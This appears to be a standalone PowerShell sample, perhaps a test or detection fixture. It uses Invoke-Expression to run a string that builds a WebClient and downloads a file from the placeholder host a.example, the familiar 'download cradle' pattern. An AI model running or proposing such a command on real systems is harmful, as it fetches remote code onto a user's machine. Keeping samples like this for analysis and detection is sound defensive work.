iex `
  '$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'